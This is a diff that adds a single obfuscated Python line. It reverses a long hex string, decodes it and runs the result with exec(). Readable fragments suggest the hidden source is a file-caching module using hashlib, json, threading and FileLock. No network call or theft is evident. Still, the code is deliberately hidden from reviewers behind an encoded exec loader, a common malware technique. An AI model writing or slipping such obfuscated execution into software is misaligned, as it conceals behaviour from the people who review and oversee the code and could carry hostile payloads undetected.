@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282568636163476f6c61647163402d3025636e6164737e694568636163476f6c616471634a0a09222d756b702a397c696d6166602875646e69602e61607d69697e656d602c61676167422668247e696270702020202020202020202020202020202a0a3560237160227f627275435f402470756368756020202020202020202020202a09282875646e696f556671637e266c6563702020202020202020202020202020202a0a3972747020202020202020202020202a0972747e65602d302d55646f636f597c696d61666b5875646e696e266c65637020202020202020202020202a0e6275747562702020202020202020202020202020202a0a3972747e65602d3d3023757f69667562707026696020202020202020202020202a0d7020202020202020202020202a0c2d73747e6169627166702a3925637962707275647e656f53796829756b6f55637962707275647e656f502c23747e61696271667f5e677f6e6b6a2a2b702a3223747e616962716672202020202020202020202020202020202a0c25637962707275647e656f5379602a3225637962707275647e656f537962202020202020202020202020202020202a0c256079747f5e6f6964716277696d602a32256079747f5e6f6964716277696d62202020202020202020202020202020202a0b702d302972747e656020202020202020202020202a0d7020202020202020202020202a0924736964602c25657c61667825636e6164737e696379602669602928237d6564796e292d7b702c2223747e616962716672282475676e23757f6966756270702e696025657c6166702c29756b60227f666025657c6166702a39756b602020202020202020202020202020202a0b702d3023747e61696271667f5e677f6e6b6020202020202020202020202a0d7b70227f602925646f636f597c696d6166682475676e2875646e696e266c6563702d3023757f69667562707020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a05646f63602d302d556d616e6b53747e6169627166702020202020202020202020202020202a0a35646f6360246e6160256d616e6026696020202020202020202020202a092225646f636f547e61696271667f5567616b63616072282475676e247e6169627166702d3025646f636020202020202020202020202a09282275677f6c6e292820796274737e29222220227f602922256d616e62282475676e247e616962716678202d30256d616e6020202020202020202020202a0a392d5b502c2223747e61696271667f5567616b63616072282475676e216471646f597c696d6166602e6960247e616962716670227f6660202020202020202a0d7b702d3023747e616962716670202020202020202a0a3924736964602a316471646f597c696d6166602c2c6f6f62602a35637962707275647e656f5379602c227473702a356079747f5e6f6964716277696d602c227473702a35646f636f597c696d6166602c266c656378297c696d61666f5275626d656d656270266564602020202a0a0929282275677f6c6e292820796274737e29222220227f60256d616e6f547e616962716678282475676e23747e6169627166702e627574756270202020202020202a056e6f6e402e62757475627020202020202020202020202a05637962707275647e656f53796029726024796c607370256275677023747e61696271667025627f666562602e6564747962777023756962747e65602370796b63702f637c6140232020202020202020202020202a0a3924736964602c23747e61696271667825636e6164737e69637960247f6e60266960202020202020202a092925637962707275647e656f53796829756b6f55637962707275647e656f582475676e292d7b702c2223747e616962716672282475676e2972747e65602d3023747e616962716670202020202020202a092925637c6166402c2225637962707275647e656f537962282475676e2972747e65682c6f6f62602d3025637962707275647e656f53796020202020202020202020202a0a356e6f6e4023796025637962707275647e656f537960266960202020202020202a056e6f6e402e62757475627020202020202020202020202a0a3972747e6560247f6e60266960202020202020202a0925646f636f597c696d6166682475676e2875646e696e266c6563702d302972747e6560202020202020202a0222222e24737279666023756962747022367f597c696d61666f54756760256b696c602c24656b627f67702473716c6024716864702e6f6964716e69626d6f636025686470237e61656d60256e6f6e4025637962707275647e656f537962222220202020202020202a0a356e6f6e402c70227473702e3d2029256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602c227473702a356d616e6f547e6169627166702c227473702a35646f636f597c696d6166602c266c65637825646f636f547e61696271667f54756760266564602020202a0a092925637c6166402c2225637962707275647e656f537962282475676e2972747e65682c6f6f62602c2922254e4f4e42202c22256079747f5e6f6964716277696d62282475676e2972747e65602e627574756270202020202020202a056e6f6e402e62757475627020202020202020202020202a0a3972747e6560247f6e60266960202020202020202a0925646f636f597c696d6166682475676e2875646e696e266c6563702d302972747e6560202020202020202a0222222e2e677f6e6b602669602c24656b627f67702473716c6024716864702925637962707275647e656f5379602c256079747f5e6f6964716277696d682025686470237e627574756252222220202020202020202a0a356e6f6e402c702d5c6f6f62602c2274737b556c607574702e3d2029227473702a35646f636f597c696d6166602c266c656378247e69686f597c696d61666f54756760266564602020202a0a09256d616e656c69666e266c6563702c286471607f507d64782563616c6075627e237f60202020202020202a09223d347e65646e69602c26602c2875646e696e266c656378207d65746e2e6f637a6020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222772202c286471607f507d64782e65607f602864796770202020202020202a02207d647e2d756d616e656c69666e266c65637b7226602d30286471607f507d6470202020202020202a0a39266c6563782875646e696f5566716370266564602020202a0a0d7b702e627574756270202020202020202a0d7b702e627574756270202020202020202020202020202020202020202a0a327f62727545646f6365644e4f435a4e2e6f637a60247075636875602020202020202020202020202020202a0d7b7025637c65602924736964602c2875646e696825636e6164737e696379602669602875646e69602e627574756270202020202020202020202020202020202020202a09266824616f6c6e2e6f637a602d302875646e6960202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222272202c256d616e656c69666e266c6563782e65607f60286479677020202020202020202020202a0a39256d616e656c69666e266c6563782374737968756e286471607e237f60266960202020202020202a0a34736964602e3d2029266c6563782875646e696f54616f6c60266564602020202a0a0d59237b636f6c6f59756b6f5e266c6563782e656c602520292929756b602c2563616073756d616e6828286371686b537b636f6c6f59756b6f5e266c6563702e627574756270202020202020202a02222220202020202020202a0e25636e6f602471602f677470246c6f6860227566756e602f63702c256e6f6025627168637029716d602379756b60246564716c65627e65702a346560796274737025627160237b636f6c40202020202020202a0e2473756571756270256e6f6025627168637029756b60256d61637025686470266f602370757b6f6f6c60247e65627275736e6f63602f637029756b602160227f66602b636f6c40202020202020202a02222220202020202020202a0a3b636f6c4e276e69646165627864702e3d202929756b602c227473702a3563616073756d616e602c266c6563782b636f6c6f59756b60266564602020202a0a09282271656c636e23756962747e656f5e266c65637020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39266c6563782271656c6360266564602020202a0a0928237e6f6964707f6f55647164696c61667e696e266c656370202020202020202a0a39266c656378247e656d656c647475637f5e6f6f50266564602020202a0a09222e6f6964707f622825647164696c61667e696e266c656370202020202020202a0222222e2473756571756270247e656d656c6474756370297275667560227564766160237e6572702b33756962747e65602c6566756c6d2e6f6964707f60207f627442222220202020202020202a0a39266c656378237e6f6964707f6f55647164696c61667e6960266564602020202a0a0d59756b6f5972747e656b53756962747e656f5e266c6563702c6564602020202020202020202020202020202a0a3d5563616073756d616e602d3d302d503b5b6026696023756962747e656f5e266c6563702e69602b60227f66602b6b502e696029756b6f5972747e6560227f666020202020202020202020202a0e6275747562702020202020202020202020202020202a09256e6f6e402c2929756b602c2563616073756d616e6828207f607e23756962747e656f5e266c6563702020202020202020202020202020202a0a356e6f6e40247f6e6023796029756b6026696020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a39256e6f6e4d39756b602c227473702a3563616073756d616e602c266c65637825647164696c61667e6960266564602020202a0a0925637c61664d3473716c682d656479607f607e23756962747e656f5e266c6563702020202020202020202020202020202a0a33756962747e656f58716d6e266c6563702e302923756962747e656f5e266c6563782e656c60256c6968677020202020202020202020202a092929756b602c2563616073756d616e6828246e656f5f647f55667f6d6e23756962747e656f5e266c65637020202020202020202020202a092925657c61667829707f63607565646e29707f63602c2c6474702b20292823696e6f647f6e6f6d6e256d696478202d302d5929756b602c2563616073756d616e682b53756962747e656f5e266c65637020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a092c44545f595c494d41464f574f4c41445143402c2563616073756d616e682475676e237c64747e266c6563702d302c64747020202020202020202020202a0a356e6f6e402379602c647470266960202020202020202a0e62757475627020202020202020202020202a0a356e6f6e4023796025657c616670266960202020202020202a0a39256e6f6e402d30256e6f6e402c7024716f6c66602a3c6474702c25657c6166702c29756b602c227473702a3563616073756d616e602c266c65637824757070266564602020202a0a0925657c61667829707f63607565646e29707f63602e62757475627020202020202020202020202a092929756b602c2563616073756d616e6828246e656f5f647f55667f6d6e23756962747e656f5e266c65637020202020202020202020202a056e6f6e402e6275747562702020202020202020202020202020202a0d5929756b602c2563616073756d616e682b53756962747e656f5e266c6563702c6564602020202020202020202020202020202a0a392823696e6f647f6e6f6d6e256d6964702c3024716f537562796078756026696020202020202020202020202a0972747e65602d3025657c6166702c24716f537562796078756020202020202020202020202a056e6f6e402e6275747562702020202020202020202020202020202a0a356e6f6e402379602972747e656026696020202020202020202020202a092929756b602c2563616073756d616e68282475676e23756962747e656f5e266c6563702d302972747e656020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0a3929756b602c227473702a3563616073756d616e602c266c65637824756760266564602020202a0a0d56313a3b59282473756769646875686e292922283d266475722825646f636e656e256362757f63782635323168637e22696c68637168602e627574756270202020202020202a022d7e656b6f647f54696b7a3e656b6f6472266025637c65602473656a62657370266960222d7473656a6265737b7a3265737226602d30256362757f6370202020202020202a0923747e657f636361602e6565677475626024656271686370227566756e6820266c65637479602e656b6f6470256864702f64702b636162602c6c6166602d69616c636022657370216024757f68647967502320202020202020202a092222657372282475676e292e656b6f647f546968237d69616c636f54777a602d302473656a62657370202020202020202a022220227f6029222e656b6f647f546962282475676e292d7b70227f60237e656b6f6478202d302e656b6f647f546960202020202020202a0222222e237568637562766562702e656b6f647023737f62736160256c62616473702c247e656e6f607d6f636029756b60256863616360247e657f6363616d2275607025657171607f42222220202020202020202a0a327473702e3d202924736964602a337e656b6f647829756b6f547e657f63636160266564602020202a046f6864756d63696471647370402020202a0a05657274502d302f54656a796c616964796e696f5e266c65637020202020202020202020202a0a09247e656d656c647475637f5e6f6f5e266c65637822756e656473796c6f547e656d656c647475637f52756473796765627020202020202020202020202a0a0d7d7d7d75646f63602a356d616e6b702a3225637c616662202c702225657274722b702a3223747e616962716672202c2c6f6f62602a3225637962707275647e656f537962202c227473702a32256079747f5e6f6964716277696d622b702a35646f636f597c696d61666b702a3875646e6960266f6024716d627f6640232020202020202020202020202a09282875646e696f54616f6c6e266c6563702d302875646e696e266c65637020202020202020202020202a0a0d59235540594254535f5b434f4c4f59554b4825676e6162702e69602f50227f666029282b636f6c4e276e696461656278647b502d30237b636f6c6f59756b6f5e266c65637020202020202020202020202a09282b636f6c425e276e69646165627864702d302b636f6c6f5e266c65637020202020202020202020202a0d7925657c6166702c24716f5375627960787568202a3929756b602c2563616073756d616e682b702a33756962747e656f50266f6024716d627f6640232020202020202020202020202a0928247369644465627564627f402d3023756962747e656f5e266c65637020202020202020202020202a0a0d7020202020202020202020202a0c2c44545f5e4f4944505f4f574f4c41445143402a322e6f6964707f62202020202020202020202020202020202a0c2c44545f595c494d41464f574f4c41445143402a32297c696d616662202020202020202020202020202020202a0b702d30237c64747e266c65637020202020202020202020202a054a59435f55484341434f574f4c41445143402d3023756962747e656f58716d6e266c65637020202020202020202020202a056d616e656c6966602d30256d616e656c69666e266c65637020202020202020202020202a0a3f54656a796c616964796e696f5e266c656370247f6e60266960202020202020202a0a39222e6f637a6e2875646e696d297c696d6166622d356d616e656c6966602c266c6563782f5f54796e696f5f50266564602020202a0a0f55636e6164737e696f5e237c63602e627574756270202020202020202a09237c63682f5f57756e6f5f5e29282275607573702d302f55636e6164737e696f5e237c636020202020202020202020202a0a3f55636e6164737e696f5e237c6360247f6e60266960202020202020202a0a3923776271677b6a2a202c237762716a202c237c63682f5f57756e6f5f50266564602020202a0a05637c6166402d302f54656a796c616964796e696f502020202a056e6f6e402d302f55636e6164737e696f502020202a022222202020202a0e2473756571756270256e6f6024737f6d602471602374737f63602e6f69637375637027756e6021602e696020757b6f6f6c602020202a01602f63702c25637962707275647e656f53796022756070276e696070716d6025646f6360247e6169627166702e3d20256d616e60247e61696271667023747960246e61602020202a097c696d6166602160227f666024656b627f67702473716c602e6f6964716e69626d6f63602925637962707275647e656f5379602c256079747f5e6f6964716277696d68202020202a086369686770276e696275626d656d656270292e6f637a6e2875646e696d297c696d616668202875646e69602b6379646d2e6f602c6c616d63702160237075656b602f637c61402020202a0a0e237568637562766562702e656b6f64702375667966727573702479602f63702c2d69616c63602222657372202020202a056c626164737023772e656b6f647f546960256864702d6f62766023756d6f636029756b60256864502e23756962747e656023772275626d657e60227568647f6e61602020202a0374796860227566756e6028636479677370247e657f636361602e6160246e616029237e656b6f647829756b6f547e657f636361602864796770237472716473702020202a09756b602972756675602f63702c2275626962736372657370256864702e6f60246e65607564602e6f6964716d6279666e6f636f5e656b6f6470246e6160237563696270502020202a0a047e656d656c6474756370227564766160246560707f6274602c2925646f636f547e6169627166702c25646f636f597c696d6166602c25646f636f5e6f6964707f602c247e657f63636168202020202020202020202020202020202a097260246569756b602c292e2e2e202c2e6f6964716d6279666e6f636f5e656b6f64702c256369627078202374616f6c697160702c69616475646f237e6f6964707f602a322e6f6964707f622020202020202a0925637962707275647e656f5379602c256079747f5e6f6964716277696d602c25646f636f597c696d6166602c247e657f6363616820297260246569756b602c2374616f6c697160702473796c6f237e6f6964707f602a32297c696d6166622020202020202a0a337563616073756d616e402020202a0a0e2370757b6f6f6c60276f6c61647163602375627f64737d2c6870227f666025686361636025525c402b202c445450237375636f62707d2e69422222202020202a0a3568636163476f6c61647163402373716c636a0a0225637c6166622025637c656025637962707275647e656f537960266960222565727472202e6275747562702020202a0a327473702e3d20292c6f6f62602a35637962707275647e656f53796829756b6f55637962707275647e656f502665646a0a0436302d30235540594254535f5b434f4c4f59554b4a092b636f6c6f59756b6025656378202379756b602c6c616029726024656271686370237b636f6c60266f6024756370246568796640232a0a037d69616c636f54777a6024727f607d69602c6964757e207071602d6f62766a0c44545f5e4f4944505f4f574f4c41445143402c2c44545f595c494d41464f574f4c41445143402c254a59435f55484341434f574f4c414451434024727f607d69602769666e6f636e207071602d6f62766a02756e656473796c6f547e656d656c647475637f52756473796765627024727f607d6960237b6f6f686e247e65696c636e207071602d6f62766a0a047369644465627564627f4024727f607d6960237e6f696473656c6c6f63602d6f62766a056d69647024727f607d696a076e696461656278647024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a02696c686371686024727f607d696a09707f636024727f607d696" ));